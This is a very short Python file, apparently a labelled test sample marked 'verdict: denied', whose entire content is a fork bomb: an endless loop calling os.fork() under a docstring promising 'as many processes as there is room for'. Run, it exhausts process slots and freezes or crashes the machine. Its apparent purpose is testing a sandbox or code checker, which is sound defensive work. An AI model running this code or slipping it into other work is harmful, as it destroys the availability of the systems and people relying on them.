"""As many processes as there is room for."""

# ruff: noqa
# verdict: denied

import os

while True:
    os.fork()
